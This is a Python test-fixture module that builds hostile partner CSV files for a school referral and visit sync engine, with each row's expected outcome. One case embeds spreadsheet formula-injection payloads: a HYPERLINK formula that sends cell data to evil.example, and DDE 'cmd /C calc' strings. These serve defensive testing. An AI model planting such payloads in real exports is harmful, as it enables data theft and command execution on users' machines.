"""Hostile partner files built from real referral ids, each row with the exact outcome it must have.

tests/connector/hostile/corpus.py proves the feed reads each hostile file right; these cases go
further, through the whole engine: a row is `applied` (PowerSchool changed), `duplicate` or
`stale` (recognised, nothing to do: SPEC 5), or `quarantined` with its exact reason. Row 0 is a
file-level problem (the header). Each case uses referrals no other case touches, so all cases run
in one sync and still have exact expectations.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

__all__ = ["InboxCase", "build_cases", "Ids", "LINE_LIMIT"]

LINE_LIMIT = 1 << 20
STATUS_HEADER = ("referral_id", "status", "status_date", "first_service_date", "status_reason")
VISIT_HEADER = (
    "partner_visit_id",
    "student_number",
    "referral_id",
    "visit_date",
    "time_in",
    "time_out",
    "service_codes",
    "purpose_code",
    "clinician_name",
)
Expect = tuple[int, str, str]  # (row, outcome, reason)


@dataclass
class InboxCase:
    name: str
    files: dict[str, bytes]  # written to the inbox in this order (oldest first)
    expected: dict[str, list[Expect]]  # file -> every row's outcome; [] = a file with no rows
    left: tuple[str, ...] = ()  # files that must stay in the inbox (uploads in progress)
    final_status: dict[str, str] = field(
        default_factory=dict
    )  # referral uid -> STATUS after the sync


@dataclass
class Ids:
    """Hands out referrals no other case uses, and knows the other facts a case needs."""

    cgc: Iterator[str]
    bhcare_referral: str
    unsent: str  # a cgc referral held for want of consent (never sent)
    revoked: str  # a cgc referral sent, whose consent was revoked since
    student_of: Callable[[str], str]  # referral uid -> student number
    stranger: str  # a student with no consent for the partner at all

    def take(self, n: int) -> list[str]:
        return [next(self.cgc) for _ in range(n)]


def line(*cells: str, delimiter: str = ",") -> bytes:
    def quoted(c: str) -> str:
        return '"' + c.replace('"', '""') + '"' if any(ch in c for ch in ',"\r\n') else c

    return (delimiter.join(quoted(c) for c in cells) + "\r\n").encode("utf-8")


def csv_file(
    *rows: tuple[str, ...], header: tuple[str, ...] = STATUS_HEADER, delimiter: str = ","
) -> bytes:
    return line(*header, delimiter=delimiter) + b"".join(
        line(*r, delimiter=delimiter) for r in rows
    )


def build_cases(ids: Ids, today: dt.date) -> list[InboxCase]:
    day = [(today - dt.timedelta(days=20 - n)).isoformat() for n in range(21)]  # day[20] = today
    ok = "applied"
    cases: list[InboxCase] = []

    def add(case: InboxCase) -> None:
        cases.append(case)

    # -- encodings, BOM, delimiters, columns ------------------------------------------------
    a, b, c = ids.take(3)
    add(
        InboxCase(
            "bom",
            {
                "status_updates_bom.csv": b"\xef\xbb\xbf"
                + csv_file(
                    (a, "received", day[1], "", ""),
                    (b, "accepted", day[1], "", ""),
                    (c, "attended", day[2], day[2], ""),
                )
            },
            {"status_updates_bom.csv": [(1, ok, ""), (2, ok, ""), (3, ok, "")]},
            final_status={a: "received", b: "accepted", c: "attended"},
        )
    )

    a, b, c = ids.take(3)
    head = csv_file((a, "received", day[1], "", ""))
    bad = f"{b},declined,{day[1]},,Caf".encode() + b"\xe9 closed\r\n"
    offset = len(head) + bad.index(b"\xe9")
    add(
        InboxCase(
            "bad_encoding_in_a_row",
            {"status_updates_latin1.csv": head + bad + line(c, "accepted", day[2], "", "")},
            {
                "status_updates_latin1.csv": [
                    (1, ok, ""),
                    (2, "quarantined", f"not UTF-8 at byte {offset}"),
                    (3, ok, ""),
                ]
            },
            final_status={a: "received", b: "sent", c: "accepted"},
        )
    )

    (a,) = ids.take(1)
    content = f"referral_id,st\xe4tus,status_date\r\n{a},received,{day[1]}\r\n".encode("latin-1")
    reason = "header: not UTF-8 at byte 14"
    add(
        InboxCase(
            "bad_encoding_in_the_header",
            {"status_updates_hdr.csv": content},
            {"status_updates_hdr.csv": [(0, "quarantined", reason), (1, "quarantined", reason)]},
            final_status={a: "sent"},
        )
    )

    a, b = ids.take(2)
    text = f"referral_id,status,status_date\r\n{a},received,{day[1]}\r\n{b},received,{day[1]}\r\n"
    content = text.encode("utf-16")
    reason = "the file is UTF-16: export it as UTF-8 CSV"
    add(
        InboxCase(
            "utf16",
            {"status_updates_utf16.csv": content},
            {
                "status_updates_utf16.csv": [(0, "quarantined", reason)]
                + [(n, "quarantined", f"{reason}; contains NUL bytes") for n in (1, 2, 3)]
            },
            final_status={a: "sent", b: "sent"},
        )
    )

    for delimiter, label in ((";", "';'"), ("\t", "tab")):
        a, b = ids.take(2)
        name = f"status_updates_delim_{'semicolon' if delimiter == ';' else 'tab'}.csv"
        reason = (
            f"wrong delimiter: the header is one column containing {label}; "
            "expected ','-separated columns"
        )
        add(
            InboxCase(
                f"wrong_delimiter_{name[22:-4]}",
                {
                    name: csv_file(
                        (a, "received", day[1], "", ""),
                        (b, "received", day[1], "", ""),
                        delimiter=delimiter,
                    )
                },
                {name: [(1, "quarantined", reason), (2, "quarantined", reason)]},
                final_status={a: "sent", b: "sent"},
            )
        )

    a, b = ids.take(2)
    add(
        InboxCase(
            "missing_column",
            {
                "status_updates_missing.csv": csv_file(
                    (a, "received", ""),
                    (b, "accepted", ""),
                    header=("referral_id", "status", "first_service_date"),
                )
            },
            {
                "status_updates_missing.csv": [
                    (1, "quarantined", "missing column status_date"),
                    (2, "quarantined", "missing column status_date"),
                ]
            },
            final_status={a: "sent", b: "sent"},
        )
    )

    a, b = ids.take(2)
    add(
        InboxCase(
            "extra_columns",
            {
                "status_updates_extra.csv": csv_file(
                    (a, "received", day[1], "", "", "=1+1", "North"),
                    (b, "accepted", day[2], "", "", "", "South"),
                    header=(*STATUS_HEADER, "partner_notes", "Clinic"),
                )
            },
            {"status_updates_extra.csv": [(1, ok, ""), (2, ok, "")]},
            final_status={a: "received", b: "accepted"},
        )
    )

    a, b = ids.take(2)
    add(
        InboxCase(
            "too_many_and_too_few_fields",
            {
                "status_updates_count.csv": csv_file((a, "received", day[1], "", ""))
                + line(b, "declined", day[2], "", "", "stray")
                + line(b, "received")
            },
            {
                "status_updates_count.csv": [
                    (1, ok, ""),
                    (2, "quarantined", "row has 6 fields, header has 5"),
                    (3, "quarantined", "row has 2 fields, header has 5"),
                ]
            },
            final_status={a: "received", b: "sent"},
        )
    )

    # -- line structure ----------------------------------------------------------------------
    a, b = ids.take(2)
    add(
        InboxCase(
            "quoted_newlines",
            {
                "status_updates_nl.csv": csv_file(
                    (a, "declined", day[3], "", 'family moved,\r\nno forwarding "address"'),
                    (b, "received", day[3], "", ""),
                )
            },
            {"status_updates_nl.csv": [(1, ok, ""), (2, ok, "")]},
            final_status={a: "declined", b: "received"},
        )
    )

    a, b, c = ids.take(3)
    huge = f"{b},declined,{day[3]},,".encode() + b"x" * (LINE_LIMIT + 10) + b"\r\n"
    add(
        InboxCase(
            "huge_line",
            {
                "status_updates_huge.csv": csv_file((a, "received", day[3], "", ""))
                + huge
                + line(c, "received", day[3], "", "")
            },
            {
                "status_updates_huge.csv": [
                    (1, ok, ""),
                    (
                        2,
                        "quarantined",
                        f"line 3 is longer than {LINE_LIMIT} bytes ({len(huge)} bytes)",
                    ),
                    (3, ok, ""),
                ]
            },
            final_status={a: "received", b: "sent", c: "received"},
        )
    )

    a, b = ids.take(2)
    content = (
        csv_file((a, "received", day[3], "", ""))
        + f"{b},accep".encode()
        + b"\x00"
        + f"ted,{day[3]},,\r\n".encode()
        + b"\x00\x00\r\n"
    )
    add(
        InboxCase(
            "nul_bytes",
            {"status_updates_nul.csv": content},
            {
                "status_updates_nul.csv": [
                    (1, ok, ""),
                    (2, "quarantined", "contains NUL bytes"),
                    (3, "quarantined", "contains NUL bytes; row has 0 fields, header has 5"),
                ]
            },
            final_status={a: "received", b: "sent"},
        )
    )

    (a,) = ids.take(1)
    content = csv_file((a, "received", day[3], "", "")).replace(b"\r\n", b"\r")
    reason = "header: lines end with CR only (old Mac format): export with LF or CRLF line ends"
    add(
        InboxCase(
            "cr_only_line_ends",
            {"status_updates_mac.csv": content},
            {"status_updates_mac.csv": [(0, "quarantined", reason)]},
            final_status={a: "sent"},
        )
    )

    add(
        InboxCase("empty_file", {"status_updates_empty.csv": b""}, {"status_updates_empty.csv": []})
    )
    add(
        InboxCase(
            "header_only",
            {"status_updates_header.csv": csv_file()},
            {"status_updates_header.csv": []},
        )
    )

    (a,) = ids.take(1)
    partial = {
        n: csv_file((a, "received", day[4], "", ""))
        for n in (
            "status_updates_p1.csv.part",
            ".status_updates_p2.csv",
            "status_updates_p3.csv.tmp",
            "~$status_updates_p4.csv",
        )
    }
    add(InboxCase("partial_uploads", partial, {}, left=tuple(partial), final_status={a: "sent"}))

    # -- what the rows say -------------------------------------------------------------------
    (a,) = ids.take(1)
    add(
        InboxCase(
            "unknown_referral_ids",
            {
                "status_updates_unknown.csv": csv_file(
                    ("no-such-referral", "received", day[4], "", ""),
                    ("00000000-0000-4000-8000-000000000000", "received", day[4], "", ""),
                    (a, "received", day[4], "", ""),
                )
            },
            {
                "status_updates_unknown.csv": [
                    (1, "quarantined", "referral_id: unknown referral"),
                    (2, "quarantined", "referral_id: unknown referral"),
                    (3, ok, ""),
                ]
            },
            final_status={a: "received"},
        )
    )

    add(
        InboxCase(
            "another_partners_ids",
            {
                "status_updates_other.csv": csv_file(
                    (ids.bhcare_referral, "received", day[4], "", "")
                )
            },
            {
                "status_updates_other.csv": [
                    (1, "quarantined", "referral_id: not a referral sent to this partner")
                ]
            },
        )
    )

    add(
        InboxCase(
            "referral_never_sent",
            {"status_updates_unsent.csv": csv_file((ids.unsent, "received", day[4], "", ""))},
            {
                "status_updates_unsent.csv": [
                    (1, "quarantined", "referral_id: not a referral sent to this partner")
                ]
            },
        )
    )

    add(
        InboxCase(
            "consent_revoked_since",
            {"status_updates_revoked.csv": csv_file((ids.revoked, "received", day[4], "", ""))},
            {"status_updates_revoked.csv": [(1, "quarantined", "consent: consent revoked")]},
            final_status={ids.revoked: "sent"},
        )
    )

    a, b, c, d = ids.take(4)
    add(
        InboxCase(
            "bad_and_future_dates",
            {
                "status_updates_dates.csv": csv_file(
                    (a, "received", "2026-13-45", "", ""),
                    (b, "received", "01/02/2026", "", ""),
                    (c, "received", (today + dt.timedelta(days=2)).isoformat(), "", ""),
                    (d, "attended", day[5], (today + dt.timedelta(days=3)).isoformat(), ""),
                    (d, "attended", day[5], day[6], ""),
                )
            },
            {
                "status_updates_dates.csv": [
                    (
                        1,
                        "quarantined",
                        "status_date: '2026-13-45' is not a date (expected YYYY-MM-DD)",
                    ),
                    (
                        2,
                        "quarantined",
                        "status_date: '01/02/2026' is not a date (expected YYYY-MM-DD)",
                    ),
                    (3, "quarantined", "status_date: in the future"),
                    (4, "quarantined", "first_service_date: in the future"),
                    (5, "quarantined", "status: first_service_date is after status_date"),
                ]
            },
            final_status={a: "sent", b: "sent", c: "sent", d: "sent"},
        )
    )

    a, b, c = ids.take(3)
    add(
        InboxCase(
            "status_regressions",
            {
                "status_updates_regress.csv": csv_file(
                    (a, "attended", day[6], day[6], ""),
                    (a, "received", day[7], "", ""),
                    (a, "accepted", day[6], "", ""),
                    (b, "completed", day[6], day[5], ""),
                    (b, "in_service", day[8], "", ""),
                    (c, "declined", day[6], "", ""),
                    (c, "attended", day[7], day[7], ""),
                )
            },
            {
                "status_updates_regress.csv": [
                    (1, ok, ""),
                    (2, "quarantined", "status: status cannot move from attended to received"),
                    (3, "stale", ""),
                    (4, ok, ""),
                    (5, "quarantined", "status: status cannot move from completed to in_service"),
                    (6, ok, ""),
                    (7, "quarantined", "status: status cannot move from declined to attended"),
                ]
            },
            final_status={a: "attended", b: "completed", c: "declined"},
        )
    )

    a, b = ids.take(2)
    row_a, row_b = (a, "received", day[8], "", ""), (b, "accepted", day[8], "", "")
    add(
        InboxCase(
            "duplicate_rows",
            {
                "status_updates_dup_1.csv": csv_file(row_a, row_a, row_b),
                "status_updates_dup_2.csv": csv_file(row_b, row_a),
            },
            {
                "status_updates_dup_1.csv": [(1, ok, ""), (2, "duplicate", ""), (3, ok, "")],
                "status_updates_dup_2.csv": [(1, "duplicate", ""), (2, "duplicate", "")],
            },
            final_status={a: "received", b: "accepted"},
        )
    )

    a, b, c = ids.take(3)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    add(
        InboxCase(
            "formula_injection_text",
            {
                "status_updates_formula.csv": csv_file(
                    (a, "declined", day[9], "", formula),
                    (b, "accepted", day[9], "", "@SUM(1+1)*cmd|' /C calc'!A0"),
                    (c, "XYZ", day[9], "", "=cmd|' /C calc'!A0"),
                )
            },
            {
                "status_updates_formula.csv": [
                    (1, ok, ""),
                    (2, ok, ""),
                    (3, "quarantined", "status: unknown code 'XYZ'"),
                ]
            },
            final_status={a: "declined", b: "accepted", c: "sent"},
        )
    )

    a, b = ids.take(2)
    add(
        InboxCase(
            "school_side_and_unknown_statuses",
            {
                "status_updates_codes.csv": csv_file(
                    (a, "sent", day[9], "", ""), (b, "", day[9], "", "")
                )
            },
            {
                "status_updates_codes.csv": [
                    (
                        1,
                        "quarantined",
                        "status: 'sent' is a school-side status; "
                        "a partner reports received..cancelled",
                    ),
                    (2, "quarantined", "status: missing"),
                ]
            },
            final_status={a: "sent", b: "sent"},
        )
    )

    # -- visits --------------------------------------------------------------------------------
    a, b = ids.take(2)
    sa = ids.student_of(a)

    def visit(
        vid: str,
        student: str,
        ref: str = "",
        when: str = day[10],
        t_in: str = "10:00",
        t_out: str = "10:50",
        services: str = "individual_counseling",
    ) -> tuple[str, ...]:
        return (vid, student, ref, when, t_in, t_out, services, "follow_up", "Clinician")

    add(
        InboxCase(
            "hostile_visits",
            {
                "visits_hostile.csv": csv_file(
                    visit("HV-1", sa, a),
                    visit("HV-1", sa, a),
                    visit("HV-2", sa, "", t_in="25:00"),
                    visit("HV-3", sa, "", services="yoga"),
                    visit("HV-4", "99999999"),
                    visit("HV-5", ids.stranger),
                    visit("HV-6", sa, ids.bhcare_referral),
                    visit("HV-7", ids.student_of(b), a),
                    visit("HV-8", sa, "", when=(today + dt.timedelta(days=3)).isoformat()),
                    visit("HV-9", sa, "", t_in="11:00", t_out="10:00"),
                    header=VISIT_HEADER,
                )
            },
            {
                "visits_hostile.csv": [
                    (1, ok, ""),
                    (2, "duplicate", ""),
                    (3, "quarantined", "time_in: '25:00' is not HH:MM"),
                    (4, "quarantined", "service_codes: unknown code 'yoga'"),
                    (5, "quarantined", "student_number: no such student"),
                    (6, "quarantined", "consent: no consent on file for this partner"),
                    (7, "quarantined", "referral_id: not this partner's referral for this student"),
                    (8, "quarantined", "referral_id: not this partner's referral for this student"),
                    (9, "quarantined", "visit_date: in the future"),
                    (10, "quarantined", "time_out: 10:00 is before time_in 11:00"),
                ]
            },
        )
    )
    return cases
